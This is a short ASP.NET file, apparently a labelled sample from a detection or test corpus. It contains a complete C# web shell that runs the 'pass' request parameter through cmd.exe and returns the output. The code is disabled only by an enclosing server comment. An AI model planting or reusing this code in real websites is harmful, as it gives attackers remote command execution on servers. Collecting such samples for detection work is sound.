<%-- hegui corpus: inert sample - an ASP.NET server comment is never compiled
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + Request["pass"]);
  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
  Process p = Process.Start(psi);
  Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
--%>
